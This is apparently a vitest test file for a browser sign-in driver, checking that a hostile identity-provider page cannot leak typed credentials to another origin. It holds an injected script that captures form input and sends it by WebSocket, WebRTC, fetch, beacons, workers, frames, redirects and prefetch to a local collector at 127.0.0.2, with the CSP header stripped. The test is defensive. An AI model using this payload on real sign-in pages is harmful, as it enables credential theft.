/**
 * Credentials stay on the target's origin whatever channel a hostile sign-in page uses (the
 * target is untrusted): a proxy in front of the simulator adds to every page a script that sends
 * what the user types to another origin (127.0.0.2) over a WebSocket, opens a WebRTC peer
 * connection to a STUN server there, and embeds a frame from an origin the config trusts (also
 * 127.0.0.2: another site, so Chromium runs it in a process of its own) whose script sends a
 * fetch, an image, a WebSocket and a peer connection to that other origin. The browser driver
 * plays the flow through Chromium: it still gets its code, the trusted frame loads, and nothing at
 * all reaches the other origin. Every page and frame also tries the other ways a page can send
 * (otherChannels: a beacon, an event stream, a worker, windows, frames, a redirect, a prefetch). The config also trusts `http://127.0.0.2` written without a port:
 * that is port 80 of the host, never the collector's port there (Chromium reads a proxy bypass
 * rule without a port as every port of the host).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSocket, type Socket } from 'node:dgram';
import { existsSync } from 'node:fs';
import { createSimulator } from '../../simulator/core.js';
import { serve, type Served } from '../../simulator/adapters/node.js';
import { targetConfig } from '../../simulator/control/config.js';
import { createHttpTarget } from '../../suites/target/http.js';
import { createHttp, createRecorder } from '../../suites/runner/http.js';
import { createRedactor } from '../../suites/runner/redact.js';
import { createOAuthFlows } from '../../suites/runner/oauth.js';
import { createRandom } from '../../suites/runner/random.js';
import { createBrowserDriver, DEFAULT_CHROMIUM, type BrowserDriver } from '../../suites/drivers/browser.js';
import type { TargetConfig } from '../../suites/types.js';
import { startCollector, startProxy, type Collector } from './collector.js';

const CHROMIUM = process.env.IDP_CHROMIUM ?? DEFAULT_CHROMIUM;
const OTHER_HOST = '127.0.0.2';

let served: Served;
let proxy: Awaited<ReturnType<typeof startProxy>>;
/** The other origin: what reaches it over HTTP or a WebSocket. */
let collector: Collector;
/** An origin the config trusts, serving the frame. */
let frames: Collector;
let stun: Socket;
const datagrams: string[] = [];
let config: TargetConfig;

/** Everything the page and its frame try, toward `collector` and `stun`. */
function hostileScript(): string {
  const ws = collector.url.replace('http:', 'ws:');
  const peer = `stun:${OTHER_HOST}:${stun.address().port}`;
  return `<script>(() => {
  const socket = (q) => { try { const s = new WebSocket('${ws}/ws?' + q); s.onopen = () => s.send(q); } catch {} };
  const rtc = () => { try { const pc = new RTCPeerConnection({ iceServers: [{ urls: '${peer}' }] });
    pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)); } catch {} };
  socket('loaded');
  rtc();
  document.addEventListener('input', (e) => socket(encodeURIComponent(e.target.name) + '=' + encodeURIComponent(e.target.value)), true);
  if (window.top !== window) {
    fetch('${collector.url}/fetch?from=frame', { mode: 'no-cors' }).catch(() => {});
    new Image().src = '${collector.url}/pixel.png';
  }
})();</script>${otherChannels()}`;
}

/**
 * The other ways a page can send: a fetch, a beacon, an event stream, a worker's fetch and
 * socket, window.open, a link opening a window, a frame, an image the provider's origin redirects
 * (its /hop answers 302 to the other origin), and a prefetch by speculation rules.
 */
function otherChannels(): string {
  const to = (path: string) => `'${collector.url}/${path}'`;
  const worker = `fetch(${to('worker')}, { mode: 'no-cors' }).catch(() => {}); new WebSocket(${to('worker-ws').replace("'http:", "'ws:")});`;
  return `<script>(() => {
  const tryTo = (f) => { try { f(); } catch {} };
  tryTo(() => fetch(${to('fetch')}, { mode: 'no-cors' }).catch(() => {}));
  tryTo(() => navigator.sendBeacon(${to('beacon')}, 'x'));
  tryTo(() => new EventSource(${to('events')}));
  tryTo(() => new Worker(URL.createObjectURL(new Blob([${JSON.stringify(worker)}], { type: 'text/javascript' }))));
  tryTo(() => window.open(${to('window-open')}));
  tryTo(() => { const a = document.createElement('a'); a.href = ${to('link-window')}; a.target = '_blank'; document.body.append(a); a.click(); });
  tryTo(() => { const f = document.createElement('iframe'); f.src = ${to('frame')}; document.body.append(f); });
  new Image().src = '/hop';
  tryTo(() => { const s = document.createElement('script'); s.type = 'speculationrules';
    s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [${to('prefetch')}] }] }); document.head.append(s); });
})();</script>`;
}

beforeAll(async () => {
  stun = createSocket('udp4');
  stun.on('message', (message, from) => datagrams.push(`${message.length} bytes from ${from.address}`));
  await new Promise<void>((resolve) => stun.bind(0, OTHER_HOST, resolve));
  collector = await startCollector(undefined, OTHER_HOST);
  frames = await startCollector((_req, res) => {
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(`<!DOCTYPE html><p>a widget</p>${hostileScript()}`);
  }, OTHER_HOST);
  const sim = createSimulator({});
  served = await serve(sim);
  proxy = await startProxy(served.url, (req, answer) => {
    if (req.url === '/hop')
      return { status: 302, headers: [['location', `${collector.url}/hopped`]], body: Buffer.alloc(0) };
    if (!answer.headers.some(([n, v]) => /^content-type$/i.test(n) && /html/i.test(v))) return answer;
    const text = answer.body
      .toString('utf8')
      .replace('</body>', `<iframe src="${frames.url}/widget"></iframe>${hostileScript()}</body>`);
    // A hostile provider sends no Content-Security-Policy that would stop its own page.
    const headers = answer.headers.filter(([n]) => !/^content-security-policy$/i.test(n));
    return { ...answer, headers, body: Buffer.from(text) };
  });
  sim.options.controlHosts = [served.url, proxy.url].map((u) => new URL(u).host);
  config = {
    ...targetConfig(sim, proxy.url),
    trustedOrigins: [frames.url, `http://${OTHER_HOST}`],
    driver: { kind: 'browser' },
  };
});

afterAll(async () => {
  await Promise.all([collector?.close(), frames?.close(), proxy?.close(), served?.close()]);
  stun?.close();
});

describe.skipIf(!existsSync(CHROMIUM))('browser driver: a sign-in page that reaches for another origin', () => {
  let driver: BrowserDriver | undefined;
  afterAll(async () => driver?.close());

  it('signs in and gets its code, while no WebSocket, peer connection or frame request reaches the other origin', async () => {
    const http = createHttp(createHttpTarget(config), createRecorder(20), createRedactor());
    driver = await createBrowserDriver(http, config);
    const flows = createOAuthFlows(http, driver, config, createRedactor(), createRandom(23));
    const { redirect } = await driver.authorize(flows.authorizeUrl('confidential', { state: 'ws' }), 'approve');
    expect(redirect?.searchParams.get('code')).toBeTruthy();
    // The trusted frame was loaded (so its script ran), and a STUN request would have had time to leave.
    expect(frames.received.map((r) => r.path)).toContain('/widget');
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    // Shown without the query, where a leaked password would be.
    expect(collector.received.map((r) => `${r.method} ${r.path.split('?')[0]} [${r.credentials.join(',')}]`)).toEqual(
      [],
    );
    expect(datagrams).toEqual([]);
    await flows.revokeAll();
  }, 120_000);
});
